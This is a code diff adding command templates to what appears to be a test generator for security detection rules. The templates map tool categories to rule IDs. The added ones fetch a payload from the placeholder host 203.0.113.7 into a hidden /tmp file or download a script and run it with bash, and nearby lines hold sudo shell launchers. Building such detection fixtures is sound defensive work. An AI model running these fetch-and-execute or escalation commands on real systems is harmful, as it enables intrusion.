@@ -35,6 +35,11 @@ const USES: Record<string, ListUse[]> = {
     },
   ],
   'command-launchers': [{ rule: 'SW-PRV-0003', templates: ['sudo {} /bin/sh', 'sudo {} bash'] }],
+  downloaders: [
+    { rule: 'SW-C2-0003', templates: ['{} http://203.0.113.7/x > /tmp/.x'] },
+    { rule: 'SW-EXE-0014', templates: ['{} http://203.0.113.7/x.sh > x.sh; bash x.sh'] },
+  ],
+  'file-transfer-clients': [{ rule: 'SW-C2-0003', templates: ['{} u@203.0.113.7:/srv/x /tmp/.x'] }],
   'discovery-commands': [
     { rule: 'SW-DIS-0007', templates: ['{} > /tmp/.out', '{} -a >> /dev/shm/x 2>&1'] },
   ],
